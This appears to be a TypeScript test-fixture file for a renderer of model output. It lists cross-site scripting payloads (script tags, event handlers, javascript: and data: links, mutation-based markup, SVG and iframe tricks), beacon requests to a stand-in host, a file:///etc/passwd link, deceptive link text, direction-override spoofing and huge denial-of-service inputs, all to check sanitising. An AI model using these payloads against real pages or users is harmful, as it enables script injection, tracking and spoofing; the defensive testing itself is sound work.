/** A text as a hostile or broken model may write it. */
export interface HostileText {
  name: string
  text: string
  /** Of a huge text: what it has very much of on the screen. */
  shape?: 'wide' | 'long'
}

/** What every script of the texts below sets on the window, had it run. */
export const MARKER = 'hostileTextRan'

/** Part of every address that the texts below ask for. */
const BEACON = 'beacon'

const RUN = `window.${MARKER}=1`
const FAR = `https://${BEACON}.example`
/** On the app's own origin, where no policy stands in the way. */
const NEAR = `/${BEACON}`
const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'

const markup: HostileText[] = [
  {
    name: 'scripts',
    text: `<script>${RUN}</script>\n\n<SCRIPT SRC="${FAR}/a.js"></SCRIPT>\n\n<scr<script>ipt>${RUN}</scr</script>ipt>\n\nIn a line <script>${RUN}</script> of words.`,
  },
  {
    name: 'event handlers',
    text: `<img src=x onerror="${RUN}">\n\n<p onclick="${RUN}" onmouseover='${RUN}'>Press</p>\n\n<details open ontoggle=${RUN}><summary>More</summary></details>\n\nWords <b onfocus=${RUN} tabindex=0 autofocus>bold</b> <input autofocus onfocus=${RUN}> <body onload=${RUN}>`,
  },
  {
    name: 'svg',
    text: `<svg onload="${RUN}"><script>${RUN}</script><image href="${FAR}/b.png"/><a xlink:href="javascript:${RUN}"><text>x</text></a><foreignObject><iframe srcdoc="<script>parent.${MARKER}=1</script>"></iframe></foreignObject><animate attributeName=href values="javascript:${RUN}"/></svg>`,
  },
  {
    name: 'frames and plug-ins',
    text: `<iframe src="javascript:parent.${MARKER}=1"></iframe>\n\n<iframe srcdoc="<script>parent.${MARKER}=1</script>"></iframe>\n\n<object data="${FAR}/c.svg"></object> <embed src="${NEAR}/d.svg">\n\n<frameset><frame src="${FAR}"></frameset>`,
  },
  {
    name: 'styles',
    text: `<style>@import "${FAR}/e.css"; body { background: url(${FAR}/f.png) }</style>\n\n<div style="position:fixed;inset:0;background:url(${FAR}/g.png)">over all</div>\n\n<link rel=stylesheet href=${NEAR}/h.css><link rel="prefetch" href="${FAR}/i"><link rel=preload as=image href="${FAR}/j"><link rel=dns-prefetch href="${FAR}"><link rel=preconnect href="${FAR}">`,
  },
  {
    name: 'documents turned elsewhere',
    text: `<meta http-equiv="refresh" content="0;url=${NEAR}/k">\n\n<base href="${FAR}/">\n\n<form action="${FAR}/l" method=post><input name=key><button autofocus formaction="javascript:${RUN}">Sign in</button></form>\n\n<meta http-equiv=refresh content="0;url=javascript:${RUN}"> in a line`,
  },
  {
    name: 'pictures and sound in markup',
    text: `<img src="${FAR}/m.png" srcset="${FAR}/n.png 2x"> <picture><source srcset="${FAR}/o.webp"></picture>\n\n<video src="${FAR}/p.mp4" poster="${FAR}/q.png" autoplay></video> <audio autoplay src="${FAR}/r.mp3"></audio>\n\n<table background="${FAR}/s.png"><tr><td background=${FAR}/t.png>x</td></tr></table>\n\n<input type=image src="${NEAR}/u.png">`,
  },
  {
    name: 'markup meant to be mended into something else',
    text: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>\n\n<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>\n\n<!--><img src=x onerror=${RUN}>-->\n\n<![CDATA[<img src=x onerror=${RUN}>]]>\n\n<?php echo "<script>${RUN}</script>" ?>\n\n&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;${RUN}&#60;/script&#62;\n\n<template><script>${RUN}</script></template><plaintext-not>`,
  },
]

const addresses: HostileText[] = [
  {
    name: 'links that run',
    text: [
      `[a](javascript:${RUN})`,
      `[b](JaVaScRiPt:${RUN})`,
      `[c](<java\tscript:${RUN}>)`,
      `[d](&#106;avascript:${RUN})`,
      `[e](javascript&colon;${RUN})`,
      `[f](&#x6A&#x61vascript:${RUN})`,
      `[g](\u0001javascript:${RUN})`,
      `[h](< javascript:${RUN}>)`,
      `[i](java&NewLine;script:${RUN})`,
      `[j](java&Tab;script&colon;${RUN})`,
      `[k](vbscript:msgbox%281%29)`,
      `[l](VbScRiPt:x)`,
      `[m](data:text/html,<script>parent.${MARKER}=1</script>)`,
      `[n](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaG9zdGlsZVRleHRSYW49MTwvc2NyaXB0Pg==)`,
      `[o](DATA:image/svg+xml,<svg/onload=${RUN}>)`,
      `[p](file:///etc/passwd)`,
      `[q](blob:https://${BEACON}.example/x)`,
      `[r](javascript://%0a${RUN})`,
      `[s](feed:javascript:${RUN})`,
      `[t](view-source:${FAR})`,
      `[u](//${BEACON}.example/v)`,
      `[v](/providers?form=new)`,
      `[w](${NEAR}/w)`,
      `[x](\\\\${BEACON}.example\\x)`,
      `[y](intent://x#Intent;end)`,
      `[z](javascript\\:${RUN})`,
    ].join('\n\n'),
  },
  {
    name: 'links by reference, by themselves and by address',
    text: [
      `[one][r1], [two][], [three]`,
      `[r1]: javascript:${RUN} "a title"`,
      `[two]: <JAVASCRIPT:${RUN}>`,
      `[three]: data:text/html,<script>${RUN}</script>`,
      `[__proto__]: ${FAR}/proto\n[constructor]: javascript:${RUN}`,
      `[__proto__] [constructor] [toString]`,
      `<javascript:${RUN}> <JAVASCRIPT:${RUN}> <data:text/html,x> <vbscript:x> <mailto:a@example.com>`,
      `<https://example.com/fine> https://example.com/bare www.example.com someone@example.com`,
      `[mail](mailto:someone@example.com?subject=x&body=y) [site](https://example.com/%00?q="><script>${RUN}</script>)`,
      `[paypal.com](https://evil.example) [https://bank.example/login](https://bank.example@evil.example/)`,
    ].join('\n\n'),
  },
  {
    name: 'titles',
    text: `[a](https://example.com "><img src=x onerror=${RUN}>")\n\n[b](https://example.com '" onmouseover="${RUN}')\n\n![c](${FAR}/y.png "\\" onload=\\"${RUN}")\n\n[d](https://example.com (\`"><script>${RUN}</script>\`))`,
  },
  {
    name: 'pictures',
    text: [
      `![a](${FAR}/1.png)`,
      `![b](//${BEACON}.example/2.png)`,
      `![c](${NEAR}/3.png)`,
      `![d](http://127.0.0.1:9/${BEACON}.png)`,
      `![e][ref]\n\n[ref]: ${FAR}/4.png`,
      `[![f](${FAR}/5.png)](${FAR}/6)`,
      `![g](HTTPS://${BEACON}.example/7.png)`,
      `![h](https&colon;//${BEACON}.example/8.png)`,
      `![i](data:image/svg+xml,<svg onload=${RUN}><image href='${FAR}/9.png'/></svg>)`,
      `![j](data:text/html,<script>${RUN}</script>)`,
      `![k](data:image/png,";background:url(${FAR}/10.png))`,
      `![l](javascript:${RUN})`,
      `![m" onerror="${RUN}](x)`,
      `![n](ftp://${BEACON}.example/11.png)`,
      `![o](ws://${BEACON}.example/12)`,
      `![p](blob:${FAR}/13)`,
      `![q](favicon.ico?${BEACON})`,
      `![r](${PIXEL})`,
      `![s ![t](${FAR}/14.png)](${FAR}/15.png)`,
    ].join('\n\n'),
  },
]

const places: HostileText[] = [
  {
    name: 'markup in a table',
    text: `| <script>${RUN}</script> | ![x](${FAR}/20.png) |\n|---|---|\n| <img src=x onerror=${RUN}> | [a](javascript:${RUN}) |\n| \`<iframe>\` | <b onclick=${RUN}>b</b> |\n| too | many | cells | <svg onload=${RUN}> |`,
  },
  {
    name: 'markup in lists, tasks and quotes',
    text: `- <script>${RUN}</script>\n- [ ] <img src=x onerror=${RUN}>\n- [x] ![x](${FAR}/21.png)\n  1. <iframe src="${FAR}/22"></iframe>\n\n> <style>* { background: url(${FAR}/23.png) }</style>\n>\n> > <form action=${FAR}/24>`,
  },
  {
    name: 'markup in headings and footnotes',
    text: `# <img src=x onerror=${RUN}>\n\n<h1 onclick=${RUN}>Setext</h1>\n===\n\n###### ![x](${FAR}/25.png) [a](javascript:${RUN})\n\nA claim[^1] and another^[<script>${RUN}</script>].\n\n[^1]: <img src=x onerror=${RUN}> [b](javascript:${RUN})`,
  },
  {
    name: 'fences',
    text: `\`\`\`html\n<script>${RUN}</script>\n<img src="${FAR}/26.png" onerror="${RUN}">\n\`\`\`\n\n\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${RUN}>"]; click A "javascript:${RUN}"\n\`\`\`\n\n~~~svg\n<svg onload="${RUN}"><image href="${FAR}/27.png"/></svg>\n~~~\n\n\`\`\`"><script>${RUN}</script>\nx\n\`\`\`\n\n\`\`\`js onload=${RUN}\nimport('${FAR}/28.js')\n\`\`\`\n\n\`\`\`css\n@import url(${FAR}/29.css);\n\`\`\`\n\n    <script>${RUN}</script>\n\nand \`<img src=x onerror=${RUN}>\` too`,
  },
  {
    name: 'formulas',
    text: `$\\href{javascript:${RUN}}{x}$ and $\\url{javascript:${RUN}}$\n\n$$\\includegraphics[height=1em]{${FAR}/30.png}$$\n\n$\\htmlData{x=1}{y} \\htmlStyle{background:url(${FAR}/31.png)}{z} \\htmlClass{a}{b} \\htmlId{c}{d}$\n\n$\\text{<img src=x onerror=${RUN}>}$ \\(\\href{${FAR}/32}{w}\\) \\[\\def\\a{\\a\\a}\\a\\]\n\n$\\rule{99999em}{99999em}$ $\\kern99999em x$ $\\raisebox{-99999em}{x}$ $\\hspace{99999em}$ $\\Huge\\Huge\\Huge x$`,
  },
]

const units: HostileText[] = [
  {
    name: 'bidirectional controls',
    text: `\u202Egpj.elif\u202C \u2066\u2067\u2068 nested \u2069\u2069 ${'\u202E'.repeat(70)}left open\n\n[\u202Emoc.elpmaxe//:sptth](https://example.com/\u202Egpj) \u200F\u061C\u200E`,
  },
  {
    name: 'halves of surrogate pairs',
    text: 'a\uD800b \uDC00 \uDC00\uD800 **x\uDBFF** `y\uDFFF` end \uD83D',
  },
  {
    name: 'null and other controls',
    text: 'a\u0000b \u0001\u0008\u000B\u000C\u001B[31mred\u001B[0m \u007F\u0085\u2028\u2029\uFEFFc\uFFFE\uFFFF \u0000`\u0000`',
  },
  {
    name: 'pairs, joiners and marks',
    text: `👩🏽‍🚀👨‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿 e\u0301 ${'Z\u0351\u036B\u0343\u036A\u0302'.repeat(20)} ${'\u200B'.repeat(50)}${'\u0300'.repeat(300)} 👍`,
  },
  {
    name: 'line ends of all kinds',
    text: '  one\r\ntwo\rthree\n\n\n\n\tfour  \nfive\\\nsix \u00A0 ',
  },
]

/** Small texts that may stand one after another in one answer, parted by empty lines. */
export const smallTexts: readonly HostileText[] = [...markup, ...addresses, ...places, ...units]

/** Small texts that swallow whatever comes after them, so that each needs an answer of its own. */
export const openTexts: readonly HostileText[] = [
  {
    name: 'an open fence',
    text: `Look:\n\n\`\`\`html\n<script>${RUN}</script>\n\n# not a heading\n`,
  },
  { name: 'an open comment', text: `<!-- <script>${RUN}</script>\n\n<img src=${FAR}/40.png>` },
  { name: 'an open script', text: `<script>\n\n${RUN}\n\n**x**` },
  { name: 'an open tag', text: `Words <img src="${FAR}/41.png" onerror="${RUN}"` },
  { name: 'an open attribute', text: `<a href="javascript:${RUN}\n\n<b` },
  { name: 'open emphasis', text: '**bold *both ~~struck `code' },
  { name: 'an open link', text: `[a](javascript:${RUN}` },
  { name: 'an open picture', text: `![a](${FAR}/42.png` },
  { name: 'an open formula', text: `$$\\href{javascript:${RUN}}{` },
  { name: 'an open table', text: `| a | b |\n|---|---|\n| <script>${RUN}</script> | ![` },
]

const MANY = 10_000
const MEGA = 1_000_000

/** Texts that a careless renderer takes seconds, or the whole stack, for. Made when asked for: they are large. */
export function hugeTexts(): HostileText[] {
  return [
    { name: 'a line of 1 MB without a space', shape: 'wide', text: 'a'.repeat(MEGA) },
    { name: 'a line of 1 MB of words', text: 'word **bold** <b> '.repeat(MEGA / 18) },
    { name: '10,000 nested quotes', text: `${'>'.repeat(MANY)} deep` },
    { name: '10,000 nested quotes with spaces', text: `${'> '.repeat(MANY)}deep` },
    { name: '10,000 nested lists', shape: 'wide', text: `${'- '.repeat(MANY)}deep` },
    {
      name: '1,000 lists, each a step to the right',
      text: Array.from({ length: 1000 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
    },
    {
      name: 'an open fence of 1 MB',
      text: `\`\`\`js\n${'let a = "<b>" // x\n'.repeat(MEGA / 19)}`,
    },
    { name: 'an open fence of one long line', text: `\`\`\`html\n${'<a href="'.repeat(MEGA / 9)}` },
    { name: '100,000 asterisks', text: '*'.repeat(100_000) },
    { name: '50,000 opened emphases', text: '*a '.repeat(50_000) },
    { name: '100,000 brackets', text: '['.repeat(100_000) },
    { name: '50,000 opened links', text: '[a]('.repeat(50_000) },
    { name: '100,000 backticks', text: '`'.repeat(100_000) },
    {
      name: 'backticks of all lengths',
      text: Array.from({ length: 400 }, (_, length) => `${'`'.repeat(length + 1)} `).join('a'),
    },
    { name: '100,000 exclamation marks and brackets', text: '!['.repeat(50_000) },
    { name: '100,000 opened tags', text: '<a '.repeat(33_000) },
    { name: '50,000 opened comments', text: 'x <!-- '.repeat(50_000) },
    { name: '50,000 dollars', text: '$x '.repeat(50_000) },
    { name: '20,000 braces in a formula', text: `$$${'{'.repeat(20_000)}x${'}'.repeat(20_000)}$$` },
    { name: '100,000 ampersands', text: '&#'.repeat(50_000) },
    {
      name: 'a table with a row of 20,000 cells',
      text: `| a | b |\n|---|---|\n|${' x |'.repeat(20_000)}`,
    },
    {
      name: 'a table of 5,000 columns and many rows',
      shape: 'wide',
      text: `|${'a|'.repeat(5000)}\n|${'-|'.repeat(5000)}\n${'|x|\n'.repeat(2000)}`,
    },
    { name: '100,000 line ends', shape: 'long', text: `a${'\n'.repeat(100_000)}b` },
    { name: '20,000 short paragraphs', shape: 'long', text: 'a\n\n'.repeat(20_000) },
    { name: '20,000 rules', text: '---\n'.repeat(20_000) },
    { name: '20,000 definitions', text: '[a]: https://example.com\n'.repeat(20_000) },
    { name: '100,000 marks on one letter', shape: 'long', text: `a${'\u0301'.repeat(100_000)}` },
    { name: '100,000 marks on one letter of code', text: `\`\`\`\na${'\u0301'.repeat(100_000)}\n` },
    { name: '100,000 brackets of code', text: `\`\`\`js\n${'['.repeat(100_000)}` },
    { name: '100,000 controls of direction', text: '\u202Ea'.repeat(50_000) },
  ]
}

/** Cut into pieces of so many UTF-16 code units; the last may be shorter. Pairs are cut, too. */
export function inPieces(text: string, units: number): string[] {
  return Array.from({ length: Math.ceil(text.length / units) }, (_, index) =>
    text.slice(index * units, (index + 1) * units),
  )
}
